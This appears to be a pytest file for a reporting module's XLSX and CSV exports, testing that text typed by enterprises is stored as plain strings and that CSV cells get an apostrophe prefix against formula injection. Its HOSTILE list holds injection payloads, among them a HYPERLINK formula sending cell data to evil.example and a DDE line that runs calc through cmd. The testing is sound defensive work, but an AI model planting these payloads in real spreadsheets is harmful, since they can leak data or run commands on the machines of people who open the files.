"""Text an enterprise typed reaches the files a province opens: it stays text. In XLSX every such
value is a string cell (never a formula), counts and money are numbers, dates are dates; in CSV a
value that a spreadsheet would run starts with an apostrophe (OWASP's rule for CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from platform_shared.spreadsheets import FORMULA_STARTS, csv_text
from reporting.adapters import report_files

pytestmark = pytest.mark.unit

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


def report(names: list[str]) -> dict:
    return {
        "month": "2026-11", "scope": "440000", "province_name": "广东省",
        "figures": {"new_filings": len(names), "filed_total": 7, "recognised_total": 1, "organisations_total": 3},
        "filings_by_month": {"2026-11": len(names)}, "filed_by_industry": {"03": 2}, "industry_names": {"03": "某领域"},
        "filed_by_city": {"440300": 2}, "filed_by_kind": {"enterprise": 2}, "products_by_status": {"filed": 2},
        "organisations_by_status": {"verified": 3}, "declared_revenue_by_year": {"2025": "12345678.90"},
        "patents_by_kind": {"invention": 2},
        "new_products": [{"filing_number": f"BA-2026-44-{i:06d}", "name": name, "brand": name, "model": name,
                          "organisation_name": name, "industry_code": "03", "province_code": "440000",
                          "city_code": "440300", "filed_on": "2026-11-05"} for i, name in enumerate(names)],
    }


def _text(cell) -> str:
    # xlsxwriter stores a carriage return as the escape _x000D_, which openpyxl leaves as it is.
    return cell.value.replace("_x000D_", "\r")


def _cells(content: bytes, sheet: str) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book[sheet].iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_neutralises_what_a_spreadsheet_would_run(text):
    assert csv_text(text) == "'" + text and csv_text("华为 (=正常)") == "华为 (=正常)"


def test_the_monthly_workbook_writes_typed_text_as_strings_numbers_as_numbers_and_dates_as_dates():
    content = report_files.as_xlsx(report(HOSTILE))
    rows = _cells(content, "本月新增备案")
    for row, text in zip(rows[1:], HOSTILE, strict=True):
        for cell in row[1:5]:  # name, brand, model, organisation
            assert cell.data_type == "s" and _text(cell) == text
        assert row[5].value == "03 某领域" and row[6].value == "深圳市"
        assert row[7].is_date and row[7].value == dt.datetime(2026, 11, 5)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any("<f>" in archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))
    details = {(r[0].value, r[1].value): r[2] for r in _cells(content, "明细")[1:]}
    assert details[("申报销售额（元）", "2025")].data_type == "n"
    assert details[("申报销售额（元）", "2025")].value == pytest.approx(12345678.90)
    assert details[("按状态", "已备案")].value == 2 and ("按单位类型", "企业") in details
    assert ("按城市", "深圳市") in details and ("专利（件）", "发明") in details


def test_the_monthly_csv_neutralises_typed_text():
    text = report_files.as_csv(report(HOSTILE)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    products = [r for r in rows if r and r[0].startswith("BA-")]
    assert [r[1] for r in products] == ["'" + h for h in HOSTILE]
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_the_product_export_in_both_formats():
    rows = [{"filing_number": "BA-2026-44-000001", "name": h, "brand": h, "model": h, "organisation_name": h,
             "industry_code": "03", "province_code": "440000", "city_code": "440305",
             "filed_on": dt.date(2026, 11, 5), "status": "revoked"} for h in HOSTILE]
    sink = io.BytesIO()
    assert report_files.products_xlsx(rows, sink, {"03": "某领域"}) == len(HOSTILE)
    sheet = _cells(sink.getvalue(), "备案产品")
    assert [_text(r[1]) for r in sheet[1:]] == HOSTILE and {r[1].data_type for r in sheet[1:]} == {"s"}
    assert [c.value for c in sheet[1][5:8]] == ["03 某领域", "广东省", "南山区"]
    assert sheet[1][8].is_date and sheet[1][9].value == "已撤销"
    lines = list(csv.reader(io.StringIO(b"".join(report_files.products_csv(rows, {})).decode("utf-8-sig"))))
    assert [line[1] for line in lines[1:]] == ["'" + h for h in HOSTILE]
    assert all(not cell.startswith(FORMULA_STARTS) for line in lines for cell in line)
